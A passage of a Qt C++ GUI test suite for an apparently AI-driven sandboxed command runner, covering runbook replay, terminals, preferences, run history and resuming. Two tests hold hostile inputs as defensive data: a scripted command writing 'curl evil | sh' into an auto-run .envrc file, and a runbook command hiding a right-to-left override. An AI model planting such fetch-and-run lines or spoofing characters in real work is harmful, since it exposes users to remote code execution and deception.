    QVERIFY(QFile::exists(runs + u'/' + folders.first() + QStringLiteral("/made.txt")));
}

void tst_Window::autoRunFilesAreFlagged()
{
    m_server->enqueue(planReply({QStringLiteral("Set up direnv")}));
    m_server->enqueue(commandReply(QStringLiteral("echo 'curl evil | sh' > .envrc")));
    m_window->setGoal(QStringLiteral("set up direnv"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    Widgets::StepCard *card = m_window->timeline()->cards().first();
    QVERIFY2(card->workspaceWarning().contains(QLatin1String(".envrc")),
             qPrintable(card->workspaceWarning()));
    // The host's own look at the folder after the run says so too, where it cannot be missed.
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String(".envrc")), AsyncMs);
    QVERIFY2(m_window->errorText().contains(QLatin1String("During the run, the sandbox created")),
             qPrintable(m_window->errorText()));
}

void tst_Window::badTaskFileStartsNothing()
{
    const QString path = writeFile(QStringLiteral("broken.yaml"),
                                   "goal: do things\n"
                                   "sandbx: host\n");
    drop(path);
    QTRY_VERIFY_WITH_TIMEOUT(!m_window->errorText().isEmpty(), AsyncMs);
    QVERIFY2(m_window->errorText().contains(QLatin1String("line 2")),
             qPrintable(m_window->errorText()));
    QVERIFY(m_window->errorText().contains(QLatin1String("sandbx")));
    QTest::qWait(200);
    QVERIFY(!m_window->isBusy());
    QCOMPARE(m_server->requestCount(), 0);
}

void tst_Window::replayRunsTheRunbookWithoutAModel()
{
    const QString path = writeFile(QStringLiteral("book.yaml"),
                                   "goal: greet twice\n"
                                   "steps:\n"
                                   "  - {title: Greet, command: \"echo 'hello: world' > g.txt\"}\n"
                                   "  - {title: Nothing to grep, command: \"grep -q x g.txt\", "
                                   "exit_code: 1}\n");
    // File > Replay... emits this once the user picked the file.
    Q_EMIT m_window->runbookOpened(path);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->goal(), QStringLiteral("greet twice"), AsyncMs);
    QVERIFY(m_controller->isReplaying());
    QVERIFY(m_window->taskFilePanel()->isVisible());
    QStringList shown;
    for (QLabel *label : m_window->taskFilePanel()->findChildren<QLabel *>())
        shown << label->text();
    QVERIFY2(shown.join(u'|').contains(QLatin1String("A runbook of 2 recorded steps")),
             qPrintable(shown.join(u'|')));
    // What will run is shown before anything runs, with what each step is expected to end in.
    QVERIFY2(shown.join(u'|').contains(QLatin1String("1. Greet\n    $ echo 'hello: world' > g.txt"))
                 && shown.join(u'|').contains(QLatin1String("$ grep -q x g.txt\n    (expected to "
                                                            "exit with 1)")),
             qPrintable(shown.join(u'|')));
    // A replay starts afresh, not in the runbook's folder.
    QVERIFY(m_window->workspace().isEmpty());
    QCOMPARE(m_server->requestCount(), 0);

    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QCOMPARE(m_server->requestCount(), 0);
    const QList<Widgets::StepCard *> cards = m_window->timeline()->cards();
    QCOMPARE(cards.size(), 2);
    QCOMPARE(cards.at(0)->command(), QStringLiteral("echo 'hello: world' > g.txt"));
    QCOMPARE(cards.at(1)->command(), QStringLiteral("grep -q x g.txt"));

    // A command that would reorder what is shown (a right-to-left override) is refused on load,
    // with its line (issue 27): nothing of it is shown or run.
    const QString hiding = writeFile(QStringLiteral("hiding.yaml"),
                                     "goal: g\nsteps:\n  - {title: Look, command: \"echo ok "
                                     "\\u202E# txt.exe\"}\n");
    Q_EMIT m_window->runbookOpened(hiding);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String("U+202E")), AsyncMs);
    QVERIFY2(m_window->errorText().contains(QLatin1String("hiding.yaml, line 3")),
             qPrintable(m_window->errorText()));
    QString listed;
    for (QLabel *label : m_window->taskFilePanel()->findChildren<QLabel *>())
        listed += label->text();
    QVERIFY(!listed.contains(QChar(0x202E)));
    QVERIFY(!listed.contains(QLatin1String("txt.exe")));

    // Not a runbook: said, nothing loaded.
    const QString plain = writeFile(QStringLiteral("plain.yaml"), "goal: g\n");
    Q_EMIT m_window->runbookOpened(plain);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String("has no steps")),
                             AsyncMs);
}

void tst_Window::notificationWhenTheWindowIsNotActive()
{
    NotificationService service;
    QDBusConnection bus = QDBusConnection::sessionBus();
    QVERIFY2(bus.isConnected(),
             "this test needs a session bus (run it through scripts/with-keyring)");
    QVERIFY(bus.registerService(QStringLiteral("org.freedesktop.Notifications")));
    QVERIFY(bus.registerObject(QStringLiteral("/org/freedesktop/Notifications"), &service,
                               QDBusConnection::ExportAllSlots));

    m_server->enqueue(planReply({QStringLiteral("Say done")}));
    m_server->enqueue(commandReply(QStringLiteral("echo done")));
    m_window->setGoal(QStringLiteral("say done"));
    // The user is looking at another window.
    QWidget elsewhere;
    elsewhere.show();
    elsewhere.activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(&elsewhere));
    QTRY_VERIFY_WITH_TIMEOUT(!m_window->isActiveWindow(), AsyncMs);
    m_controller->run(m_window->goal());
    QVERIFY(waitForRunEnd());
    QTRY_COMPARE_WITH_TIMEOUT(service.summaries, QStringList{QStringLiteral("Run succeeded")},
                              AsyncMs);

    bus.unregisterObject(QStringLiteral("/org/freedesktop/Notifications"));
    bus.unregisterService(QStringLiteral("org.freedesktop.Notifications"));
}

void tst_Window::terminalIntoTheRunsSandbox()
{
    // Before any run there is no sandbox to open a terminal in: the window says so.
    Q_EMIT m_window->terminalRequested();
    QCOMPARE(m_window->terminalArea()->paneCount(), 0);

    m_server->enqueue(planReply({QStringLiteral("Leave a marker")}));
    m_server->enqueue(commandReply(QStringLiteral("echo from-the-run > marker.txt")));
    m_window->setGoal(QStringLiteral("leave a marker"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.takeFirst(), RunState::Success);

    // The run's sandbox stays up for its terminals.
    Q_EMIT m_window->terminalRequested();
    QCOMPARE(m_window->terminalArea()->paneCount(), 1);
    QVERIFY(m_window->terminalArea()->isVisible());
    Widgets::TerminalPane *pane = m_window->terminalArea()->currentPane();
    QVERIFY(pane);
    // Numbered in the window, with the sandbox it is into; the tab shows it.
    QCOMPARE(pane->title(), QStringLiteral("Terminal 1 — host"));
    QCOMPARE(m_window->terminalArea()->tabWidget()->tabText(0),
             QStringLiteral("Terminal 1 — host"));
    QCOMPARE(m_window->terminalArea()->tabWidget()->tabToolTip(0),
             QStringLiteral("Terminal 1 — host"));
    // Typed once the shell shows its prompt, as a user would: what arrives before the shell
    // puts the terminal into raw mode may be discarded by it.
    QTRY_VERIFY_WITH_TIMEOUT(pane->view()->screenText().contains(QLatin1String("workspace")),
                             AsyncMs);
    pane->view()->sendText(QStringLiteral("cat marker.txt\n"));
    QTRY_VERIFY2_WITH_TIMEOUT(pane->view()->screenText().contains(QLatin1String("from-the-run")),
                              qPrintable(pane->view()->screenText()), AsyncMs);

    // A split is a second shell in the same sandbox.
    Q_EMIT m_window->terminalSplitRequested(Qt::Horizontal);
    QCOMPARE(m_window->terminalArea()->paneCount(), 2);
    QCOMPARE(m_window->terminalArea()->tabCount(), 1);
    QCOMPARE(m_window->terminalArea()->currentPane()->title(), QStringLiteral("Terminal 2 — host"));
    QCOMPARE(m_window->terminalArea()->tabWidget()->tabText(0),
             QStringLiteral("Terminal 2 — host (+1)"));

    // The next run gets a new sandbox; the old panes say theirs went away.
    m_server->enqueue(planReply({QStringLiteral("Say hello")}));
    m_server->enqueue(commandReply(QStringLiteral("echo hello")));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QTRY_VERIFY_WITH_TIMEOUT(pane->isDisconnected(), AsyncMs);
    QVERIFY(pane->bannerText().contains(QLatin1String("removed")));

    // Reconnect opens a shell in the current run's sandbox.
    const qsizetype prompts = pane->view()->screenText().count(QLatin1String("workspace"));
    Q_EMIT m_window->terminalArea()->reconnectRequested(pane);
    QTRY_VERIFY_WITH_TIMEOUT(!pane->isDisconnected(), AsyncMs);
    QTRY_VERIFY_WITH_TIMEOUT(pane->view()->screenText().count(QLatin1String("workspace")) > prompts,
                             AsyncMs);
    pane->view()->sendText(QStringLiteral("echo reconnected-$((40+2))\n"));
    QTRY_VERIFY_WITH_TIMEOUT(pane->view()->screenText().contains(QLatin1String("reconnected-42")),
                             AsyncMs);
    QCOMPARE(pane->title(), QStringLiteral("Terminal 1 — host"));
    QCOMPARE(pane->origin(), m_controller->session()->sandbox()->spec().name);
}

void tst_Window::splittersAreKeptForTheNextWindow()
{
    // The user widens the plan column and closes the window; the next window opens the same.
    auto *columns = qobject_cast<QSplitter *>(m_window->timelineSplitter()->parentWidget());
    QVERIFY(columns);
    QList<int> sizes = columns->sizes();
    sizes[0] += 150;
    sizes[1] -= 150;
    columns->setSizes(sizes);
    const int planWidth = columns->sizes().at(0);
    const QSize size = m_window->size();
    QVERIFY(m_window->close());
    QVERIFY(!m_settings->value(App::WindowController::layoutKey()).toByteArray().isEmpty());

    m_controller.reset();
    m_window = std::make_unique<Widgets::MainWindow>();
    m_controller = std::make_unique<App::WindowController>(m_window.get(), m_settings.get(),
                                                           Core::ConfigOverrides());
    m_window->resize(size);
    m_window->show();
    QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));
    columns = qobject_cast<QSplitter *>(m_window->timelineSplitter()->parentWidget());
    QTRY_VERIFY2_WITH_TIMEOUT(qAbs(columns->sizes().at(0) - planWidth) <= 2,
                              qPrintable(QStringLiteral("plan column %1 px, was %2 px")
                                             .arg(columns->sizes().at(0))
                                             .arg(planWidth)),
                              AsyncMs);
}

void tst_Window::preferencesSayWhereValuesComeFrom()
{
    // The app started with --max-steps 12; a task file on show sets the step timeout.
    Core::ConfigOverrides overrides;
    overrides.maxSteps = QStringLiteral("12");
    m_controller =
        std::make_unique<App::WindowController>(m_window.get(), m_settings.get(), overrides);
    m_controller->openTaskFile(
        writeFile(QStringLiteral("task.yaml"), "goal: list files\nlimits: {step_timeout: 20}\n"));
    QVERIFY(m_controller->taskFile().has_value());
    m_controller->editSettings();
    auto *dialog = m_window->findChild<Widgets::SettingsDialog *>();
    QVERIFY(dialog);
    QTRY_VERIFY_WITH_TIMEOUT(dialog->isVisible(), AsyncMs);

    const auto sourceOf = [dialog](const QString &labelText) -> Widgets::SourcedField * {
        for (QLabel *label : dialog->findChildren<QLabel *>()) {
            if (label->text() != labelText || !label->buddy())
                continue;
            for (QWidget *widget = label->buddy(); widget; widget = widget->parentWidget()) {
                if (auto *sourced = qobject_cast<Widgets::SourcedField *>(widget))
                    return sourced;
            }
        }
        return nullptr;
    };
    QVERIFY(sourceOf(QStringLiteral("M&aximum steps:")));
    QCOMPARE(sourceOf(QStringLiteral("M&aximum steps:"))->sourceText(),
             QStringLiteral("command line"));
    QVERIFY(sourceOf(QStringLiteral("M&aximum steps:"))
                ->noteText()
                .contains(QLatin1String("--max-steps")));
    QCOMPARE(sourceOf(QStringLiteral("Step &timeout:"))->sourceText(), QStringLiteral("task file"));
    // init() wrote the model to the file, under the shared key.
    Widgets::SourcedField *model = sourceOf(QStringLiteral("&Model:"));
    QCOMPARE(model->sourceText(), QStringLiteral("config file"));
    QCOMPARE(model->source().name, QStringLiteral("llm/model"));
    QCOMPARE(model->source().path, m_settings->fileName());
    QCOMPARE(sourceOf(QStringLiteral("&CPUs:"))->sourceText(), QStringLiteral("default"));
    bool fileNamed = false;
    for (QLabel *label : dialog->findChildren<QLabel *>())
        fileNamed = fileNamed || label->text().contains(m_settings->fileName());
    QVERIFY(fileNamed);

    // The control token, made in the (test's private) keyring and shown with where it is kept.
    QLineEdit *token = nullptr;
    for (QLineEdit *edit : dialog->findChildren<QLineEdit *>()) {
        if (edit->accessibleName() == QLatin1String("Control token"))
            token = edit;
    }
    QVERIFY(token);
    QTRY_COMPARE_WITH_TIMEOUT(token->text().size(), 64, AsyncMs);
    QProcess lookup;
    lookup.start(QStringLiteral("secret-tool"),
                 {QStringLiteral("lookup"), QStringLiteral("server"),
                  QStringLiteral("org.terrarium.Terrarium"), QStringLiteral("user"),
                  QStringLiteral("control-token")});
    QVERIFY(lookup.waitForFinished(20000));
    QCOMPARE(QString::fromUtf8(lookup.readAllStandardOutput()).trimmed(), token->text());
    bool keptInKeyring = false;
    for (QLabel *label : dialog->findChildren<QLabel *>())
        keptInKeyring = keptInKeyring || label->text().startsWith(u"Kept in the desktop keyring");
    QVERIFY(keptInKeyring);
    dialog->reject();
}

void tst_Window::firstModelSetUpGoesThroughPreferences()
{
    // A new user: no model anywhere (no key in the environment, nothing in the file).
    for (const char *key : {"llm/provider", "llm/base_url", "llm/model"})
        m_settings->remove(QLatin1String(key));
    m_settings->sync();
    m_controller.reset();
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    for (const QString &name : environment.keys()) {
        if (name.endsWith(QLatin1String("_API_KEY"))
            || name.startsWith(QLatin1String("TERRARIUM_")))
            environment.remove(name);
    }
    m_controller = std::make_unique<App::WindowController>(m_window.get(), m_settings.get(),
                                                           Core::ConfigOverrides(), environment);
    connect(m_controller.get(), &App::WindowController::runEnded, this,
            [this](RunState state) { m_ended << state; });

    // Run says what is missing and offers Preferences, not only variables and flags.
    m_window->setGoal(QStringLiteral("say hello"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(!m_window->errorText().isEmpty(), AsyncMs);
    QVERIFY2(m_window->errorText().startsWith(QLatin1String("No model is set up yet: open "
                                                            "Preferences")),
             qPrintable(m_window->errorText()));
    QCOMPARE(m_window->errorSetting(), QStringLiteral("planner/base_url"));
    QVERIFY(m_window->errorSettingsButton()->isVisible());
    m_ended.clear();

    // The button opens Preferences at the planner's server.
    QTest::mouseClick(m_window->errorSettingsButton(), Qt::LeftButton);
    Widgets::SettingsDialog *dialog = nullptr;
    QTRY_VERIFY_WITH_TIMEOUT((dialog = m_window->findChild<Widgets::SettingsDialog *>()), AsyncMs);
    QTRY_VERIFY_WITH_TIMEOUT(dialog->isVisible() && !dialog->isLoading(), AsyncMs);
    const auto fieldFor = [dialog](const QString &labelText) -> QWidget * {
        for (QLabel *label : dialog->findChildren<QLabel *>()) {
            if (label->text() == labelText && label->buddy())
                return label->buddy();
        }
        return nullptr;
    };
    auto *baseUrl = qobject_cast<QLineEdit *>(fieldFor(QStringLiteral("&Base URL:")));
    QVERIFY(baseUrl);
    QCOMPARE(dialog->focusWidget(), baseUrl);
    // The executor is the planner's unless set apart: the default with nothing set for it.
    QVERIFY(dialog->isExecutorSameAsPlanner());
    QCOMPARE(qobject_cast<QLineEdit *>(fieldFor(QStringLiteral("Mo&del:")))->placeholderText(),
             QStringLiteral("Same as the planner"));
    baseUrl->setText(m_server->baseUrl().toString());
    qobject_cast<QLineEdit *>(fieldFor(QStringLiteral("&Model:")))
        ->setText(QStringLiteral("scripted"));

    // Test: one tiny request, and the model's own answer.
    m_server->enqueue(
        Tests::ScriptedTurns::rawPlan(Core::LlmProvider::ChatCompletions, QStringLiteral("OK")));
    QPushButton *test = nullptr;
    for (QPushButton *button : dialog->findChildren<QPushButton *>(QStringLiteral("testButton"))) {
        if (button->text() == QLatin1String("&Test"))
            test = button;
    }
    QVERIFY(test);
    QTest::mouseClick(test, Qt::LeftButton);
    QTRY_VERIFY2_WITH_TIMEOUT(dialog->testResultText(Core::LlmRole::Planner).contains(u"“OK”"),
                              qPrintable(dialog->testResultText(Core::LlmRole::Planner)), AsyncMs);
    QCOMPARE(m_server->requests().size(), 1);
    QVERIFY(m_server->requests().first().body.contains("scripted"));

    // A wrong model name: the server's own words come back.
    m_server->enqueue(Tests::ScriptedResponse::json(
        404,
        QByteArrayLiteral("{\"error\":{\"message\":\"model 'scriptd' not "
                          "found\",\"type\":\"invalid_request_error\"}}")));
    qobject_cast<QLineEdit *>(fieldFor(QStringLiteral("&Model:")))
        ->setText(QStringLiteral("scriptd"));
    QTest::mouseClick(test, Qt::LeftButton);
    QTRY_VERIFY2_WITH_TIMEOUT(
        dialog->testResultText(Core::LlmRole::Planner).contains(QLatin1String("not found")),
        qPrintable(dialog->testResultText(Core::LlmRole::Planner)), AsyncMs);
    qobject_cast<QLineEdit *>(fieldFor(QStringLiteral("&Model:")))
        ->setText(QStringLiteral("scripted"));

    // Saved: the banner goes, and a run uses the model for both roles.
    dialog->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().isEmpty(), AsyncMs);
    m_server->enqueue(planReply({QStringLiteral("Say hello")}));
    m_server->enqueue(commandReply(QStringLiteral("echo hello")));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QCOMPARE(m_server->requests().size(), 4);
    QVERIFY(m_server->requests().last().body.contains("\"model\":\"scripted\""));
}

void tst_Window::terminalEngineFromThePreferences()
{
    // The user picks QTermWidget in Settings > Terminal; terminals opened after that use it
    // (where this build has it; elsewhere the choice is shown but cannot be made).
    m_controller->editSettings();
    auto *dialog = m_window->findChild<Widgets::SettingsDialog *>();
    QVERIFY(dialog);
    QTRY_VERIFY_WITH_TIMEOUT(dialog->isVisible(), AsyncMs);
    // The stored settings are read (from the keyring too) before anything can be changed.
    QTRY_VERIFY_WITH_TIMEOUT(!dialog->isLoading(), AsyncMs);
    QRadioButton *qtermwidget = nullptr;
    for (QRadioButton *choice : dialog->findChildren<QRadioButton *>()) {
        if (choice->text() == u"QTermWidget")
            qtermwidget = choice;
    }
    QVERIFY(qtermwidget);
#ifdef TERRARIUM_HAVE_QTERMWIDGET
    QVERIFY(qtermwidget->isEnabled());
    qtermwidget->click();
    dialog->accept();
    QTRY_COMPARE_WITH_TIMEOUT(m_window->terminalArea()->engine(),
                              Widgets::TerminalEngine::QTermWidget, AsyncMs);
    const Widgets::TerminalEngine expected = Widgets::TerminalEngine::QTermWidget;
#else
    QVERIFY(!qtermwidget->isEnabled());
    dialog->reject();
    const Widgets::TerminalEngine expected = Widgets::TerminalEngine::Terrarium;
#endif

    m_server->enqueue(planReply({QStringLiteral("Leave a marker")}));
    m_server->enqueue(commandReply(QStringLiteral("echo from-the-run > marker.txt")));
    m_window->setGoal(QStringLiteral("leave a marker"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QVERIFY2(m_ended.takeFirst() == RunState::Success, qPrintable(m_window->errorText()));
    Q_EMIT m_window->terminalRequested();
    Widgets::TerminalPane *pane = m_window->terminalArea()->currentPane();
    QVERIFY(pane);
    QCOMPARE(pane->engine(), expected);
#ifdef TERRARIUM_HAVE_QTERMWIDGET
    // The same shell into the run's sandbox, drawn by QTermWidget.
    Widgets::QTermWidgetView *view = pane->qtermWidgetView();
    QVERIFY(view);
    QTRY_VERIFY_WITH_TIMEOUT(view->text().contains(QLatin1String("workspace")), AsyncMs);
    view->termWidget()->sendText(QStringLiteral("cat marker.txt\n"));
    QTRY_VERIFY2_WITH_TIMEOUT(view->text().contains(QLatin1String("\nfrom-the-run")),
                              qPrintable(view->text()), AsyncMs);
#else
    QVERIFY(pane->view());
#endif
}

void tst_Window::runFoldersAreShownAndNotLeftEmpty()
{
    // A new folder in ~/Terrarium for each run.
    m_window->setWorkspace(QString());
    Q_EMIT m_window->workspaceChanged(QString());
    const QString root = QDir(m_home->path()).filePath(QStringLiteral("Terrarium"));

    // A run that does nothing (the plan is not one): its folder is shown, then, once its
    // sandbox goes with the next run, removed, not left behind empty.
    m_server->enqueue(Tests::ScriptedTurns::rawPlan(LlmProvider::ChatCompletions,
                                                    QStringLiteral("no plan here")));
    m_window->setGoal(QStringLiteral("do nothing"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    const QString first = m_window->runFolder()->folder();
    QVERIFY2(first.startsWith(QFileInfo(root).canonicalFilePath()), qPrintable(first));
    QVERIFY(m_window->runFolder()->isVisible());
    QVERIFY(m_window->runFolder()->isLink());
    QVERIFY(m_window->runFolder()->text().contains(QUrl::fromLocalFile(first).toString()));

    m_ended.clear();
    m_server->enqueue(planReply({QStringLiteral("Write a file")}));
    m_server->enqueue(commandReply(QStringLiteral("echo kept > result.txt")));
    m_window->setGoal(QStringLiteral("write a file"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QTRY_VERIFY_WITH_TIMEOUT(!QFileInfo::exists(first), AsyncMs);
    const QString second = m_window->runFolder()->folder();
    QVERIFY(second != first);
    QVERIFY(QFileInfo::exists(QDir(second).filePath(QStringLiteral("result.txt"))));

    // History: the past run links its folder, and Delete asks whether it goes too.
    Core::RunStore store;
    QVERIFY(store.open(Core::RunStore::defaultPath()));
    QString runId;
    for (const Core::StoredRun &run : store.runs()) {
        if (run.goal == QLatin1String("write a file"))
            runId = run.runId;
    }
    QVERIFY(!runId.isEmpty());
    QVERIFY(m_controller->history()->openRun(runId));
    QVERIFY(m_window->pastRunView()->folderLink()->isLink());
    QCOMPARE(m_window->pastRunView()->folderLink()->folder(), second);
    QStringList asked;
    m_window->pastRunView()->setConfirmer([&asked](const QString &title, const QString &) {
        asked << title;
        return true;
    });
    // The held sandbox goes first (the window closes it with the next run or at the end).
    QSignalSpy down(m_controller.get(), &App::WindowController::shutDown);
    m_controller->shutdown();
    QVERIFY(down.wait(AsyncMs));
    m_window->pastRunView()->requestDelete();
    QCOMPARE(asked,
             QStringList({QStringLiteral("Delete the Run?"),
                          QStringLiteral("Remove the Run's Folder Too?")}));
    QTRY_VERIFY_WITH_TIMEOUT(!QFileInfo::exists(second), AsyncMs);
}

void tst_Window::finishedRunIsInTheHistory()
{
    m_server->enqueue(planReply({QStringLiteral("Say hello"), QStringLiteral("Say bye")}));
    m_server->enqueue(commandReply(QStringLiteral("echo hello")));
    m_server->enqueue(commandReply(QStringLiteral("echo bye >&2")));
    m_window->setHistoryShown(true);
    m_window->setGoal(QStringLiteral("greet and leave"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    // The run going shows at the top of the history while it runs, then as it ended.
    Widgets::RunHistoryPanel *history = m_window->historyPanel();
    QAbstractItemModel *runs = history->listView()->model();
    QTRY_COMPARE_WITH_TIMEOUT(runs->rowCount(), 1, AsyncMs);
    QCOMPARE(runs->index(0, 0).data(Core::RunHistoryModel::GoalRole).toString(),
             QStringLiteral("greet and leave"));
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QTRY_COMPARE_WITH_TIMEOUT(runs->index(0, 0).data(Core::RunHistoryModel::StatusRole).toString(),
                              QStringLiteral("success"), AsyncMs);
    // The summary row at the end of the live run, with its chart of both steps.
    Widgets::TimelineNote *summary = m_window->timeline()->summary();
    QVERIFY(summary);
    QVERIFY2(summary->text().contains(QStringLiteral("2 steps run · 0 re-plans")),
             qPrintable(summary->text()));
    auto *chart = qobject_cast<Widgets::StepDurationChart *>(summary->detailsWidget());
    QVERIFY(chart);
    QCOMPARE(chart->steps().size(), 2);

    // Opened from the history: the same steps, read-only, from the store.
    const QString runId = runs->index(0, 0).data(Core::RunHistoryModel::RunIdRole).toString();
    QVERIFY(m_controller->history()->openRun(runId));
    QVERIFY(m_window->isShowingPastRun());
    Widgets::RunTimeline *past = m_window->pastRunView()->timeline();
    QCOMPARE(past->cards().size(), 2);
    QCOMPARE(past->cards().at(0)->state(), StepState::Done);
    QCOMPARE(past->cards().at(1)->command(), QStringLiteral("echo bye >&2"));
    past->cards().at(0)->setCollapsed(false);
    past->cards().at(0)->stdoutConsole()->flush();
    QCOMPARE(past->cards().at(0)->stdoutConsole()->toPlainText().trimmed(),
             QStringLiteral("hello"));
    past->cards().at(1)->stderrConsole()->flush();
    QCOMPARE(past->cards().at(1)->stderrConsole()->toPlainText().trimmed(), QStringLiteral("bye"));
    // A new run brings the live view back.
    m_server->enqueue(planReply({QStringLiteral("Again")}));
    m_server->enqueue(commandReply(QStringLiteral("true")));
    m_ended.clear();
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(!m_window->isShowingPastRun());
    QVERIFY(waitForRunEnd());
    QTRY_COMPARE_WITH_TIMEOUT(runs->rowCount(), 2, AsyncMs);
}

void tst_Window::anotherUsersModelServerOnlyOnceConfirmed()
{
    if (const QString reason = Tests::OtherUserServer::unavailableReason(); !reason.isEmpty())
        QSKIP(qPrintable(reason));
    // Where the user's Ollama would be, another user's answers like one.
    Tests::OtherUserServer other;
    QVERIFY(other.start({QStringLiteral("--ollama"), QStringLiteral("llama3.2"),
                         QStringLiteral("plan:Leave a file"),
                         QStringLiteral("command:echo confirmed > confirmed.txt")}));
    qputenv("OLLAMA_HOST", QStringLiteral("127.0.0.1:%1").arg(other.port()).toLocal8Bit());
    const auto unset = qScopeGuard([] { qunsetenv("OLLAMA_HOST"); });
    // No model configured: the window looks for a local server.
    for (const char *key : {"llm/provider", "llm/base_url", "llm/model"})
        m_settings->remove(QLatin1String(key));
    m_settings->sync();
    m_controller.reset();
    m_window = std::make_unique<Widgets::MainWindow>();
    m_controller = std::make_unique<App::WindowController>(m_window.get(), m_settings.get(),
                                                           Core::ConfigOverrides());
    connect(m_controller.get(), &App::WindowController::runEnded, this,
            [this](RunState state) { m_ended << state; });
    m_window->show();

    m_window->setGoal(QStringLiteral("leave a file"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Failed);
    QVERIFY2(m_window->errorText().contains(QLatin1String("not by you")),
             qPrintable(m_window->errorText()));
    QCOMPARE(other.requestCount(), 0);
    // The window asks, naming whose it is.
    QMessageBox *question = nullptr;
    QTRY_VERIFY_WITH_TIMEOUT(
        (question = m_window->findChild<QMessageBox *>(QStringLiteral("localServerDialog"))),
        AsyncMs);
    QVERIFY2(question->text().contains(Tests::OtherUserServer::user()),
             qPrintable(question->text()));
    auto *use = question->findChild<QPushButton *>(QStringLiteral("useLocalServerButton"));
    QVERIFY(use);
    QTest::mouseClick(use, Qt::LeftButton);
    const QString confirmation =
        QStringLiteral("127.0.0.1:%1@%2").arg(other.port()).arg(Tests::OtherUserServer::uid());
    QCOMPARE(m_settings->value(QStringLiteral("llm/trusted_local_servers")).toStringList(),
             QStringList{confirmation});

    // Confirmed: the next run uses it, and its setup says which server it is and whose.
    m_ended.clear();
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QStringList setup;
    QVERIFY(m_controller->session());
    connect(m_controller->session(), &App::RunSession::eventEmitted, this,
            [&setup](const Core::RunEvent &event) {
                if (const auto *progress = event.get<Core::Events::SetupProgress>())
                    setup << progress->message;
            });
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QVERIFY(QFile::exists(m_dir->filePath(QStringLiteral("workspace/confirmed.txt"))));
    QVERIFY2(setup.join(u'\n').contains(QStringLiteral("auto-detected at 127.0.0.1:%1 (run by %2")
                                            .arg(other.port())
                                            .arg(Tests::OtherUserServer::user())),
             qPrintable(setup.join(u'\n')));
}

QTEST_MAIN(tst_Window)
void tst_Window::resumeFromTheHistory()
{
    // A run whose process died during its second step, as the store keeps it.
    const QString runId = QStringLiteral("resume-me");
    const QString workspace = m_dir->filePath(QStringLiteral("workspace"));
    {
        Core::RunStore writer;
        QVERIFY(writer.open(Core::RunStore::defaultPath()));
        QVERIFY(writer.beginRun(Core::StoredRun{.runId = runId,
                                                .goal = QStringLiteral("mark and finish"),
                                                .sandbox = QStringLiteral("host"),
                                                .workspace = workspace,
                                                .startedAt = QDateTime::currentDateTimeUtc(),
                                                .endedAt = {},
                                                .status = QStringLiteral("running"),
                                                .lastSeq = 0}));
        qint64 seq = 0;
        const auto append = [&](Core::RunEventData data) {
            writer.append(Core::RunEvent{.runId = runId,
                                         .seq = ++seq,
                                         .timestamp = QDateTime::currentDateTimeUtc(),
                                         .data = std::move(data)});
        };
        append(Core::Events::PlanGenerated{
            .steps = {{.id = 1, .title = QStringLiteral("Leave a mark")},
                      {.id = 2, .title = QStringLiteral("Wait")}},
            .revision = 1});
        append(Core::Events::StepExecuting{.stepId = 1,
                                           .step = QStringLiteral("Leave a mark"),
                                           .command = QStringLiteral("true"),
                                           .outputReadOf = 0});
        Core::Events::StepResult result;
        result.stepId = 1;
        append(result);
        append(Core::Events::StepExecuting{.stepId = 2,
                                           .step = QStringLiteral("Wait"),
                                           .command = QStringLiteral("sleep 60"),
                                           .outputReadOf = 0});
        QVERIFY(writer.flush());
    } // the writer lets its run go without an end: interrupted

    m_server->enqueue(planReply({QStringLiteral("Finish")}));
    m_server->enqueue(commandReply(QStringLiteral("echo finished")));
    QVERIFY(m_controller->history()->openRun(runId));
    Widgets::PastRunView *past = m_window->pastRunView();
    QVERIFY(past->resumeButton()->isVisible());
    past->setConfirmer([](const QString &, const QString &) { return true; });
    QTest::mouseClick(past->resumeButton(), Qt::LeftButton);
    QVERIFY(!m_window->isShowingPastRun());
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);

    // The checklist shows the earlier step done, the interrupted one failed, the new one after.
    QAbstractItemModel *plan = m_window->planView()->listView()->model();
    QCOMPARE(plan->rowCount(), 3);
    QCOMPARE(plan->data(plan->index(0, 0), Core::PlanModel::StateRole).toInt(),
             int(StepState::Done));
    QCOMPARE(plan->data(plan->index(2, 0), Core::PlanModel::IdRole).toInt(), 3);
